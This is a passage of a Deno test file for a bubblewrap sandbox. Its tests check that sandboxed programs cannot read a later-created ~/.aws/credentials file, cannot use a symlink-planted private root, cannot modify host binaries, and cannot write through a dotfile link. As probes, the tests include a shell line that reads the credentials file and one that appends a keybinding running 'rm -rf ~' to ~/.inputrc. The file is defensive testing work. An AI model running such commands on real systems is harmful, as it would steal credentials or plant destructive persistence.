    }
  },
});

Deno.test({
  name:
    "paths: a secret created after the session started stays hidden (~/.aws made later; bash; control: -A)",
  ignore: !!skip,
  async fn() {
    for (const control of [false, true]) {
      const h = await makeHome();
      try {
        const work = join(h.home, "docs");
        const go = join(h.outside, "go");
        const script = `touch started; while [ ! -e ${go} ]; do sleep 0.05; done
if cat "$HOME/.aws/credentials"; then echo RESULT read ok; else echo RESULT read denied; fi`;
        const running = inChild(h.home, {
          cwd: work,
          argv: ["bash", "-c", script],
          allowAll: control,
        });
        const deadline = Date.now() + 60_000;
        while (!(await exists(join(work, "started"))) && Date.now() < deadline) {
          await new Promise((r) => setTimeout(r, 50));
        }
        await Deno.mkdir(join(h.home, ".aws"));
        await Deno.writeTextFile(join(h.home, ".aws", "credentials"), "aws_secret=LATER-SECRET\n");
        await Deno.writeTextFile(go, "");
        const { out } = await running;
        expect(results(out), ["read"], control ? "ok" : "denied", out);
        assertEquals(out.includes("LATER-SECRET"), control, out);
      } finally {
        await h.close();
      }
    }
  },
});

Deno.test({
  name:
    "paths: a private root planted as a link (shared /tmp) is refused, not used (control: a real one works)",
  ignore: !!skip,
  async fn() {
    const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "sbx-privroot-" }));
    try {
      const uid = Deno.uid();
      const elsewhere = join(root, "attacker");
      await Deno.mkdir(elsewhere);
      const probe = `import { privateRoot } from ${
        JSON.stringify(join(REPO, "lib", "sandbox", "private_root.ts"))
      };
try { console.log("ROOT " + privateRoot()); } catch (e) { console.log("REFUSED " + e.message); }`;
      const run = async (tmp: string) => {
        const out = await new Deno.Command(Deno.execPath(), {
          args: ["eval", probe],
          env: { ...Deno.env.toObject(), TMPDIR: tmp },
          stdout: "piped",
        }).output();
        return new TextDecoder().decode(out.stdout);
      };
      const planted = join(root, "planted");
      await Deno.mkdir(planted);
      await Deno.symlink(elsewhere, join(planted, `interpreter-sandbox-${uid}`));
      assertStringIncludes(await run(planted), "REFUSED");
      const open = join(root, "open");
      await Deno.mkdir(join(open, `interpreter-sandbox-${uid}`), { recursive: true });
      await Deno.chmod(join(open, `interpreter-sandbox-${uid}`), 0o777);
      assertStringIncludes(await run(open), "REFUSED");
      // Control: a fresh TMPDIR gets its own private root.
      const fresh = join(root, "fresh");
      await Deno.mkdir(fresh);
      assertStringIncludes(await run(fresh), `ROOT ${fresh}/interpreter-sandbox-${uid}`);
    } finally {
      await Deno.remove(root, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "paths: under a bare --allow-write the host's helper programs (bwrap, sh) stay read-only (python; control: -A)",
  // Only root can write the system folders at all.
  ignore: !!skip || Deno.uid() !== 0 || !hasPython,
  async fn() {
    const h = await makeHome();
    try {
      // A chmod to the same mode changes nothing; it fails on a read-only mount (a running
      // program cannot be opened for writing at all, so that would prove nothing).
      const py = `
import os, shutil
for name in ("bwrap", "sh"):
    path = os.path.realpath(shutil.which(name, path="/usr/bin:/bin"))
    try:
        os.chmod(path, os.stat(path).st_mode & 0o7777); print("RESULT", name, "ok")
    except OSError as e:
        print("RESULT", name, "denied", e)
`;
      const argv = ["python3", "-c", py];
      const cwd = join(h.home, "docs");
      const { out } = await inChild(h.home, { cwd, argv, flags: { "allow-write": true } });
      expect(results(out), ["bwrap", "sh"], "denied", out);
      assertStringIncludes(out, "Read-only file system");
      const control = await inChild(h.home, { cwd, argv, allowAll: true });
      expect(results(control.out), ["bwrap", "sh"], "ok", control.out);
    } finally {
      await h.close();
    }
  },
});

Deno.test({
  name:
    "paths: a socket folder that vanishes between wrap and spawn no longer fails the start; while there it is hidden (control: a plain tmpfs mask fails)",
  ignore: !!skip,
  async fn() {
    const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "sbx-vanish-" }));
    try {
      const work = join(root, "work");
      await Deno.mkdir(work);
      const dirs = [join(root, "sock-a"), join(root, "sock-b")];
      const listeners = [];
      for (const d of dirs) {
        await Deno.mkdir(d);
        listeners.push(Deno.listen({ transport: "unix", path: join(d, "s.sock") }));
      }
      const session = await SandboxSession.open({
        permissions: permissionsFromFlags({}, { cwd: work }),
        cwd: work,
      });
      try {
        const w = session.wrap([
          "sh",
          "-c",
          `ls ${dirs[1]} >/dev/null 2>&1 && echo b-seen || echo b-hidden`,
        ]);
        assert(w.argv.some((a) => a === dirs[0]), "the socket folder is masked");
        // One folder goes away before the spawn (its server ended), the other stays.
        listeners[0].close();
        await Deno.remove(dirs[0], { recursive: true });
        const out = await new Deno.Command(w.argv[0], {
          args: w.argv.slice(1),
          env: w.env,
          clearEnv: true,
          cwd: work,
          stdout: "piped",
          stderr: "piped",
        }).output();
        const text = new TextDecoder().decode(out.stdout) + new TextDecoder().decode(out.stderr);
        assertEquals(out.code, 0, text);
        assertStringIncludes(text, "b-hidden");
        // Control: the plain mask of a vanished folder fails bubblewrap's start.
        const plain = await new Deno.Command("/usr/bin/bwrap", {
          args: ["--ro-bind", "/", "/", "--perms", "0000", "--tmpfs", dirs[0], "true"],
          stderr: "piped",
        }).output();
        assertEquals(plain.success, false);
        assertStringIncludes(new TextDecoder().decode(plain.stderr), "Can't mkdir");
      } finally {
        await session.close();
      }
      listeners[1].close();
    } finally {
      await Deno.remove(root, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "paths: a hidden home entry that is a link (~/.inputrc -> dotfiles/inputrc) is read-only at its target too (bash, python; control: -A)",
  ignore: !!skip,
  async fn() {
    const sh =
      `t() { name=$1; shift; if out=$("$@" 2>&1); then echo "RESULT $name ok"; else echo "RESULT $name denied $out"; fi; }
t via_link sh -c 'echo "\\"\\\\C-x\\": \\"rm -rf ~\\\\n\\"" >> "$HOME/.inputrc"'
t target sh -c 'echo x >> "$HOME/dotfiles/inputrc"'
t other sh -c 'echo x >> "$HOME/dotfiles/notes"'`;
    const py = `import os
def t(name, path):
    try:
        open(path, "a").write("x\\n"); print("RESULT", name, "ok")
    except OSError as e:
        print("RESULT", name, "denied", e)
H = os.environ["HOME"]
t("via_link", H + "/.inputrc")
t("target", H + "/dotfiles/inputrc")
t("other", H + "/dotfiles/notes")`;
    const runs = [["bash", "-c", sh]];
    if (hasPython) runs.push(["python3", "-c", py]);
    for (const argv of runs) {
      for (const control of [false, true]) {
        const h = await makeHome();
        try {
          await Deno.mkdir(join(h.home, "dotfiles"));
          await Deno.writeTextFile(join(h.home, "dotfiles", "inputrc"), "set bell-style none\n");
          await Deno.symlink("dotfiles/inputrc", join(h.home, ".inputrc"));
          const { out } = await inChild(h.home, { cwd: h.home, argv, allowAll: control });
          const r = results(out);
          expect(r, ["via_link", "target"], control ? "ok" : "denied", out);
          expect(r, ["other"], "ok", out);
          if (!control) {
            assertEquals(
              await Deno.readTextFile(join(h.home, "dotfiles", "inputrc")),
              "set bell-style none\n",
            );
          }
        } finally {
          await h.close();
        }
      }
    }
  },
});
